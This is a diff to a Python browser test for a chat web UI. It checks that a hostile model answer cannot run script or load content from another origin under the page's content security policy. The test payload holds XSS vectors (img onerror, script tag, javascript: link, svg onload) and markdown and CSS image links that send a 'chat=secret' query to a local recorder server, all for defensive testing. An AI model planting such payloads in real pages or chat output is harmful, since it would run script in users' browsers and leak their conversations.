@@ -6,6 +6,7 @@ export)."""
 
 from __future__ import annotations
 
+import http.server
 import json
 import subprocess
 import sys
@@ -57,13 +58,12 @@ def _open_chat(page) -> None:
 
 def _ask(page, text: str, timeout: float = 90_000) -> object:
     """Send ``text`` and wait for the answer; returns its message element."""
-    before = page.locator(".msg.assistant[data-done=true]").count()
+    done = page.locator(".msg.assistant[data-done=true]")
+    before = done.count()
     page.fill("#prompt", text)
     page.click("#send")
-    page.wait_for_function(
-        f"document.querySelectorAll('.msg.assistant[data-done=true]').length > {before}",
-        timeout=timeout)
-    return page.locator(".msg.assistant[data-done=true]").nth(before)
+    done.nth(before).wait_for(timeout=timeout)  # a locator: works under the page's CSP
+    return done.nth(before)
 
 
 def _stored(page) -> list[dict]:
@@ -241,14 +241,42 @@ def test_conversation_tools(net, chromium, tmp_path):
         shoot(page, "chat-tools")
 
 
-def test_a_hostile_miners_markup_runs_nothing(tmp_path, chromium):
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """An HTTP server on another origin (another port) that records every path asked of
+    it: (its base URL, the paths)."""
+    hits: list[str] = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_hostile_miners_markup_runs_nothing(tmp_path, chromium, elsewhere):
+    base, hits = elsewhere
     payload = ('**bold** <img src="x" onerror="window.__xss=1"> <script>window.__xss=2</script>'
                ' <a href="javascript:window.__xss=3">link</a> <svg onload="window.__xss=4"></svg>'
+               f' ![leak]({base}/leak?chat=secret) <img src="{base}/img">'
+               f' <p style="background-image:url({base}/style)">styled</p>'
                '\n\n```\nprint(1)\n```\n')
     net = Network(tmp_path, "--no-trial")
     try:
         net.add_miner("--ctx", "1024", env={"COVEY_TEST_ADVERSARY": f"inject:{payload}"})
-        with page_of(chromium, net.url) as page:
+        with page_of(chromium, net.url, csp=True) as page:
             _open_chat(page)
             for sealed in (True, False):
                 page.set_checked("#sealed-toggle", sealed)
@@ -261,5 +289,8 @@ def test_a_hostile_miners_markup_runs_nothing(tmp_path, chromium):
                                     ).count() == 0
             page.wait_for_timeout(500)
             assert page.evaluate("window.__xss") is None
+            # The page's policy keeps an answer from loading anything from elsewhere (which
+            # would carry the conversation away).
+            assert hits == [], hits
     finally:
         net.close()
